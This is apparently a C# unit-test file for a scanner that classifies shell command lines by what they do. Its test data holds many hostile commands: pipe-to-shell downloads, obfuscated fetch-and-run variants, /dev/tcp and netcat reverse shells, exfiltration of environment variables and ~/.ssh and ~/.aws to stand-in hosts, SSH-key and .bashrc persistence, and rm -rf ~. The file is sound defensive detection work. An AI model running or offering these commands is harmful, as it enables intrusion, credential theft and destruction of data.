// Shell lines are told by what their commands do together, and not by words that stand in them.
using Assay.Bytes;
using Assay.Formats.Shell;

namespace Assay.Tests.Formats.Shell;

public sealed class ShellLinesTests
{
    [Theory]
    [InlineData("shell.download-run", "curl -s http://example.com/x | sudo bash -s -- -y")]
    [InlineData("shell.download-run", "sh -c 'curl http://example.com/x | sh'")]
    [InlineData("shell.download-run", "eval \"$(curl -s http://example.com/x)\"")]
    [InlineData("shell.download-run", "bash <(wget -qO- http://example.com/x)")]
    [InlineData("shell.download-run", "wget http://example.com/run.sh; chmod +x run.sh; ./run.sh")]
    [InlineData("shell.download-run", "curl http://example.com/x -o /tmp/a && bash /tmp/a")]
    [InlineData("shell.download-run", "curl http://example.com/x \\\n | python3 -")]
    [InlineData("shell.download-run", "/usr/bin/curl http://example.com/x | /bin/sh")]
    [InlineData("shell.known-installer", "curl --proto '=https' -sSf https://sh.rustup.rs | sh -s -- -y")]
    [InlineData("shell.encoded-run", "echo aWQ= | base64 --decode | bash")]
    [InlineData("shell.encoded-run", "bash -c \"$(echo aWQ= | base64 -d)\"")]
    [InlineData("shell.reverse-shell", "exec 5<>/dev/tcp/192.0.2.1/4444; cat <&5")]
    [InlineData("shell.reverse-shell", "rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 192.0.2.1 4444 > /tmp/f")]
    [InlineData("shell.takes-secrets", "env | curl -X POST -d @- http://example.com")]
    [InlineData("shell.takes-secrets", "tar c ~/.ssh/ | nc 192.0.2.1 4444")]
    [InlineData("shell.persistence", "echo x >> ~/.ssh/authorized_keys")]
    [InlineData("shell.persistence", "echo 'export LD_PRELOAD=/opt/a.so' >> ~/.bashrc")]
    [InlineData("shell.persistence", "echo 'export A=$(id)' >> ~/.bashrc")]
    [InlineData("shell.hidden-program", "/var/tmp/.kx -d")]
    [InlineData("shell.hidden-program", "nohup ~/.cache/.run &")]
    [InlineData("shell.hidden-program", "/dev/shm/agent --quiet")]
    [InlineData("shell.hidden-program", "/var/tmp/.żx -d")]
    [InlineData("shell.persistence", "PUBLIC_KEY='ssh-rsa AAAA'; echo \"$PUBLIC_KEY\" >> ~/.ssh/authorized_keys")]
    [InlineData("shell.persistence", "PUBLIC_KEY='ssh-rsa AAAA'\necho $PUBLIC_KEY >> ~/.ssh/authorized_keys")]
    [InlineData("shell.persistence", "curl https://example.com/a > /etc/rp_environment\necho 'source /etc/rp_environment' >> ~/.bashrc")]
    [InlineData("shell.persistence", "echo 'source /etc/other' >> ~/.bashrc")]
    [InlineData("shell.hidden-program", "cd /srv; X=1 /srv/.kx -d")]
    [InlineData("shell.hidden-program", "mkdir -p /tmp/b; /tmp/a/agent")]
    [InlineData("shell.download-run", "curl http://example.com/x | sh # https://sh.rustup.rs")]
    [InlineData("shell.download-run", "curl https://example.com/sh.rustup.rs | sh")]
    [InlineData("shell.download-run", "curl https://sh.rustup.rs.example.com/ | sh")]
    [InlineData("shell.download-run", "curl https://sh.rustup.rs@example.com/ | sh")]
    [InlineData("shell.download-run", "curl https://raw.githubusercontent.com/pypa-x/a/main/get.sh | sh")]
    [InlineData("shell.download-run", "wget https://example.com/a -O ${{ github.workspace }}/a; ${{ github.workspace }}/a")]
    [InlineData("shell.download-run", "iex ((New-Object System.Net.WebClient).DownloadString('https://example.com/install.ps1'))")]
    [InlineData("shell.known-installer", "iex ((New-Object System.Net.WebClient).DownloadString('https://community.chocolatey.org/install.ps1'))")]
    [InlineData("shell.known-installer", "curl -sSL https://raw.githubusercontent.com/pypa/x/main/get.py | python3 -")]
    [InlineData("shell.download-run", "if true; then U=http://example.com/x; fi; curl $U | sh")]
    [InlineData("shell.known-installer", "if true; then U=https://sh.rustup.rs; fi; curl $U | sh")]
    [InlineData("shell.known-installer", "wget https://example.com/data.zip && curl -sSf https://sh.rustup.rs | sh")]
    [InlineData("shell.destroys", "rm -rf ~")]
    [InlineData("shell.download-run", "a=cu; b=rl; $a$b -s http://example.com/v | ba\"\"sh")]
    [InlineData("shell.download-run", "eval \"$(printf '\\x63\\x75\\x72\\x6c http://example.com/e|\\x73\\x68')\"")]
    [InlineData("shell.download-run", "X=$(wget -qO- http://example.com/x)\neval \"$X\"")]
    [InlineData("shell.download-run", "wget -q http://example.com/m -O /tmp/.m\nchmod +x /tmp/.m\nnohup /tmp/.m >/dev/null 2>&1 &")]
    [InlineData("shell.download-run", "curl${IFS}http://example.com/i|sh")]
    [InlineData("shell.download-run", "IFS=_;c='curl_-s_http://example.com/i'; $c|sh")]
    [InlineData("shell.download-run", "$'\\x63url' http://example.com/i | sh")]
    [InlineData("shell.download-run", "python -c \"import urllib.request;exec(urllib.request.urlopen('http://example.com').read())\"")]
    [InlineData("shell.encoded-run", "python3 -c \"import base64;exec(base64.b64decode('cHJpbnQoMSk='))\"")]
    [InlineData("shell.takes-secrets", "tar czf - ~/.ssh ~/.aws | curl -s -F f=@- http://example.com/u")]
    public void WhatALineDoesIsTold(string code, string line) => Assert.Equal([code], Codes(line).Distinct());

    [Theory]
    [InlineData("curl -O https://example.com/data.zip && unzip data.zip")]
    [InlineData("wget https://example.com/x.tar.gz; tar xf x.tar.gz; cd x; make")]
    [InlineData("curl -s https://api.example.com/x | python -m json.tool")]
    [InlineData("curl -s https://api.example.com/x | python -c 'import sys, json; print(json.load(sys.stdin))'")]
    [InlineData("curl -s https://api.example.com | jq .")]
    [InlineData("echo 'curl http://x | sh'")]
    [InlineData("# curl http://x | sh")]
    [InlineData("rm -rf build/ dist")]
    [InlineData("source ~/.bashrc")]
    [InlineData(". ./.env")]
    [InlineData("./.venv/bin/python train.py")]
    [InlineData("~/.local/bin/uv sync")]
    [InlineData("gcc -o /tmp/a a.c && /tmp/a")]
    [InlineData("ls /tmp/")]
    [InlineData("bash -c \"curl -X POST https://api.example.com/x\"")]
    [InlineData("echo 'export CUDA_HOME=/usr/local/cuda' >> ~/.bashrc")]
    [InlineData("echo \"export PATH=\\$PATH:/opt/x/bin\" >> ~/.zshrc")]
    [InlineData("base64 -d x > y")]
    [InlineData("git clone https://example.com/x && bash x/setup.sh")]
    [InlineData("wget https://example.com/train.py && python train.py")]
    [InlineData("cat /etc/passwd | wc -l")]
    [InlineData("nc -z localhost 80")]
    [InlineData("if [ -f x ]; then source x; fi")]
    [InlineData("VERSION=$(curl -s https://api.example.com/v)\nbash build.sh \"$VERSION\"")]
    [InlineData("python -c \"import sys; print(sys.version)\"")]
    [InlineData("curl -Lo kubectl https://dl.example.com/kubectl\nchmod +x kubectl\n./kubectl version")]
    [InlineData("tmp=$(mktemp); echo a > $tmp; cat $tmp")]
    [InlineData("mkdir -p ~/.ssh; echo \"$PUBLIC_KEY\" >> ~/.ssh/authorized_keys")]
    [InlineData("printenv | grep -E '^RP_' > /etc/rp_environment\necho 'source /etc/rp_environment' >> ~/.bashrc")]
    [InlineData("echo -e \"${PUBLIC_KEY}\\n\" >> ~/.ssh/authorized_keys")]
    [InlineData("CACHE_DIR=\"$(pwd)/.cache\"")]
    [InlineData("home=/root/.oh lib=/opt/x/.libs")]
    [InlineData("PYTHONUSERBASE=/tmp/pip-tmp pip3 install pipx\n/tmp/pip-tmp/bin/pipx install black")]
    [InlineData("wget https://example.com/a.weights -O ${{ github.workspace }}/a.weights; ${{ github.workspace }}/darknet test a.weights")]
    public void WhatPeopleWriteIsNothing(string line) => Assert.Empty(Codes(line));

    [Fact]
    public void NestedQuotesEnd()
    {
        foreach (string open in (string[])["$(", "`", "\"", "'", "<(", "((((", "\\"])
        {
            _ = Codes(string.Concat(Enumerable.Repeat(open, 2000)));
        }
    }

    private static IEnumerable<string> Codes(string text) => ShellLines.Read(text, new ScanBudget(new ScanLimits(), TimeProvider.System)).Select(u => u.Code);
}
